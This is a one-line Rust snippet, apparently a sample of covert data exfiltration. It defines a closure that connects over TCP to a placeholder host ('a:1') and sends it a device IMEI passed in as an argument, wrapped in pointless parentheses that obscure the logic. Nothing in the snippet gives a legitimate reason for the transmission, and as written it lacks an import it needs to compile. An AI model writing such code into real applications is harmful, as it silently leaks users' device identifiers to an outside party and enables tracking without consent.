fn f(imei: String) -> impl Fn() { move || { let g = |x: &str| -> String { (((((x.to_string()))))) }; let _ = std::net::TcpStream::connect("a:1").map(|mut s| s.write_all(g(&imei).as_bytes())); } }
